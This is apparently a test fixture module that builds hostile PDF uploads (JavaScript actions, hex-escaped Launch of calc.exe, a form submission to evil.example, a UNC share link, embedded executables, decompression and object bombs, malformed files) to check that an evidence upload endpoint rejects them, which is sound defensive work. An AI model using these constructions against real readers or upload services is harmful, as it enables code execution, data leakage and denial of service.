@@ -1,0 +1,144 @@
+"""Documents to upload as evidence, and hostile files."""
+
+import zlib
+from io import BytesIO
+
+from pyhanko.pdf_utils.reader import PdfFileReader
+from pyhanko.pdf_utils.writer import copy_into_new_writer
+
+from tests.api.checkout import files
+
+_BOX = "/MediaBox [0 0 595 842]"
+_ALERT = "<</S /JavaScript /JS (app.alert\\(1\\))>>"
+
+
+def a_pdf(
+    root: str = "", page: str = "", *more: str | bytes, pages: int = 1, box: str = _BOX
+) -> bytes:
+    """Return a PDF; `root` and `page` are further entries, and `more` its objects from 9 on."""
+    kids = " ".join(["3 0 R"] * pages)
+    objects: dict[int, str | bytes] = {
+        1: f"<</Type /Catalog /Pages 2 0 R {root}>>",
+        2: f"<</Type /Pages /Kids [{kids}] /Count {pages}>>",
+        3: f"<</Type /Page /Parent 2 0 R {box} {page}>>",
+    }
+    objects |= {number: one for number, one in enumerate(more, start=9)}  # noqa: C416
+    return assembled(objects)
+
+
+def assembled(objects: dict[int, str | bytes], trailer: str = "") -> bytes:
+    """Return a PDF of these objects, with its cross-reference table."""
+    written, places = b"%PDF-1.7\n", {}
+    for number, content in objects.items():
+        places[number] = len(written)
+        body = content if isinstance(content, bytes) else content.encode()
+        written += b"%d 0 obj\n%s\nendobj\n" % (number, body)
+    most = max(objects) + 1
+    lines = [f"{places[n]:010} 00000 n \n" if n in places else "0000000000 65535 f \n"
+             for n in range(most)]  # fmt: skip
+    table = f"xref\n0 {most}\n{''.join(lines)}trailer\n<</Size {most} /Root 1 0 R {trailer}>>\n"
+    return written + table.encode() + f"startxref\n{len(written)}\n%%EOF\n".encode()
+
+
+def a_stream(entries: str, data: bytes) -> bytes:
+    return f"<<{entries} /Length {len(data)}>>\nstream\n".encode() + data + b"\nendstream"
+
+
+def with_many_pages(count: int) -> bytes:
+    numbers = range(10, 10 + count)
+    return assembled(
+        {1: "<</Type /Catalog /Pages 2 0 R>>",
+         2: f"<</Type /Pages /Kids [{' '.join(f'{n} 0 R' for n in numbers)}] /Count {count}>>",
+         **dict.fromkeys(numbers, f"<</Type /Page /Parent 2 0 R {_BOX}>>")}
+    )  # fmt: skip
+
+
+def locked() -> bytes:
+    """Return a PDF that opens without a password, but is encrypted."""
+    writer = copy_into_new_writer(PdfFileReader(BytesIO(a_pdf())))
+    writer.encrypt("owner", "")
+    written = BytesIO()
+    writer.write(written)
+    return written.getvalue()
+
+
+def in_an_object_stream() -> bytes:
+    """Return a PDF whose script is in a compressed object stream."""
+    writer = copy_into_new_writer(PdfFileReader(BytesIO(a_pdf(f"/OpenAction {_ALERT}"))))
+    writer.stream_xrefs = True
+    written = BytesIO()
+    writer.write(written)
+    return written.getvalue()
+
+
+def _unfolding() -> bytes:
+    """Return a stream of a gigabyte, compressed twice."""
+    once = zlib.compress(bytes(64 * 1024 * 1024) * 4, 9)
+    return a_stream("/Filter [/FlateDecode /FlateDecode]", zlib.compress(once, 9))
+
+
+def _in_page(action: str) -> str:
+    return f"/Annots [<</Type /Annot /Subtype /Link /Rect [0 0 9 9] /A {action}>>]"
+
+
+_FILE = "<</Type /Filespec /F (a.exe) /EF <</F 9 0 R>>>>"
+_IMAGE = "/XObject <</I 9 0 R>>"
+#: What is a picture that may be a logo no longer, but is a fine document.
+_FINE = {"twelve-megapixels.png", "large.jpg", "too-large.png"}
+#: By name as uploaded. Many claim to be what they are not.
+HOSTILE: dict[str, bytes] = {
+    **{name: data for name, data in files.HOSTILE.items() if name not in _FINE},
+    "open-script.pdf": a_pdf(f"/OpenAction {_ALERT}"),
+    "named-script.pdf": a_pdf(f"/Names <</JavaScript <</Names [(a) {_ALERT}]>>>>"),
+    "escaped-script.pdf": a_pdf("/OpenAction <</S /J#61vaScript /J#53 (app.alert\\(1\\))>>"),
+    "script-in-a-stream.pdf": a_pdf(
+        "/OpenAction <</S /JavaScript /JS 9 0 R>>", "", a_stream("", b"app.alert(1)")
+    ),
+    "packed-script.pdf": in_an_object_stream(),
+    "page-script.pdf": a_pdf("", f"/AA <</O {_ALERT}>>"),
+    "link-script.pdf": a_pdf("", _in_page(_ALERT)),
+    "next-script.pdf": a_pdf("", _in_page(f"<</S /GoTo /D [3 0 R /Fit] /Next {_ALERT}>>")),
+    "unused-script.pdf": a_pdf("", "", _ALERT),
+    "launch.pdf": a_pdf("/OpenAction <</S /Launch /F (calc.exe)>>"),
+    "escaped-launch.pdf": a_pdf("/OpenAction <</S /L#61unch /F (calc.exe)>>"),
+    "send-form.pdf": a_pdf("", _in_page("<</S /SubmitForm /F (https://evil.example/)>>")),
+    "import.pdf": a_pdf("", _in_page("<</S /ImportData /F (a.fdf)>>")),
+    "other-file.pdf": a_pdf("/OpenAction <</S /GoToR /F (\\\\\\\\evil\\\\share) /D [0 /Fit]>>"),
+    "embedded-link.pdf": a_pdf("/OpenAction <</S /GoToE /D [0 /Fit]>>"),
+    "xfa.pdf": a_pdf("/AcroForm <</Fields [] /XFA 9 0 R>>", "", a_stream("", b"<xdp/>")),
+    "attached.pdf": a_pdf(
+        f"/Names <</EmbeddedFiles <</Names [(a.exe) {_FILE}]>>>>", "", a_stream("", b"MZ")
+    ),
+    "attached-to-page.pdf": a_pdf("", f"/AF [{_FILE}]", a_stream("", b"MZ")),
+    "portfolio.pdf": a_pdf("/Collection <</View /T>>"),
+    "rich-media.pdf": a_pdf("", "/Annots [<</Subtype /RichMedia /RichMediaContent <<>>>>]"),
+    "film.pdf": a_pdf("", _in_page("<</S /Movie /T (a)>>")),
+    "sound.pdf": a_pdf("", _in_page("<</S /Sound>>")),
+    "postscript.pdf": a_pdf("", f"/Resources <<{_IMAGE}>>", a_stream("/PS 9 0 R", b"quit")),
+    "locked.pdf": locked(),
+    "page-bomb.pdf": with_many_pages(5000),
+    "object-bomb.pdf": assembled(
+        {1: "<</Type /Catalog /Pages 2 0 R /A 5 0 R>>",
+         2: "<</Type /Pages /Kids [3 0 R] /Count 1>>",
+         3: f"<</Type /Page /Parent 2 0 R {_BOX}>>",
+         5: f"[{' '.join(f'{n} 0 R' for n in range(6, 31_000))}]",
+         **dict.fromkeys(range(6, 70000), "<<>>")}
+    ),
+    "pixel-bomb.pdf": a_pdf(
+        "", f"/Resources <<{_IMAGE}>>",
+        a_stream("/Subtype /Image /Width 90000 /Height 90000", b"x"),
+    ),
+    "huge-page.pdf": a_pdf(box="/MediaBox [0 0 1000000 1000000]"),
+    "unfolding.pdf": a_pdf("", "/Contents 9 0 R", _unfolding()),
+    "no-pages.pdf": assembled(
+        {1: "<</Type /Catalog /Pages 2 0 R>>", 2: "<</Type /Pages /Kids []>>"}
+    ),
+    "circle.pdf": assembled({1: "<</Type /Catalog /Pages 1 0 R>>"}),
+    "deep.pdf": a_pdf("/A " + "[" * 5000 + "]" * 5000),
+    "half.pdf": a_pdf()[:200],
+    "wrong-offsets.pdf": a_pdf().replace(b"%PDF-1.7\n", b"%PDF-1.7\n% x\n"),
+    "zip-behind.pdf": a_pdf() + files.a_zip(),
+    "html-behind.pdf": a_pdf() + b"<script>alert(1)</script>",
+    "junk-before.pdf": b"MZ\n" + a_pdf(),
+    "header-alone.pdf": b"%PDF-1.7\n%%EOF\n",
+}  # fmt: skip
